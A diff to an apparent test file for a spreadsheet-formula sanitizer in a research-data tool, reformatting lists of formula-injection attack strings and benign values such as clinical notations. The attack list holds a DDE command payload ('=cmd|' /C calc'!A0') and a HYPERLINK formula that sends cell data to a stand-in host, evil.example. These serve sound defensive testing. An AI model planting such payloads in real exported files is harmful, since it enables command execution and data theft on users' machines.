@@ -13,12 +13,16 @@ from remnant.store.folder import write_tables
 from remnant.study.formulas import defused, defused_table, restored
 
 ATTACKS = [
-    "=cmd|' /C calc'!A0", "+cmd", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", '"=1',
-    "＝1+1", "＠x", "－x", "＋x", "=HYPERLINK(\"http://evil.example?\"&A1)", "\u200b=1", "a;=1+1", "a\t=1", "a|=1", "a\n=1",
-    '";=1', "+49 151 2345", "-x", "-",
+    "=cmd|' /C calc'!A0", "+cmd",
+    "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1",
+    '"=1', "＝1+1",
+    "＠x", "－x", "＋x", '=HYPERLINK("http://evil.example?"&A1)', "\u200b=1", "a;=1+1", "a\t=1",
+    "a|=1", "a\n=1", '";=1', "+49 151 2345", "-x", "-",
 ]  # fmt: skip
-PLAIN = ["P1", "-5", "+1.5", "1e-5", "-1.5e+3", ".5", "-.5", "5%", "46,XX,del(5)(q13q33)[17]", "p.R248W", "", "a-b", "a=b",
-         "2026-01-31", "<0.5", "'quoted'", "del(5q)-"]  # fmt: skip
+PLAIN = [
+    "P1", "-5", "+1.5", "1e-5", "-1.5e+3", ".5", "-.5", "5%", "46,XX,del(5)(q13q33)[17]", "p.R248W",
+    "", "a-b", "a=b", "2026-01-31", "<0.5", "'quoted'", "del(5q)-",
+]  # fmt: skip
 
 
 def runs(cell):
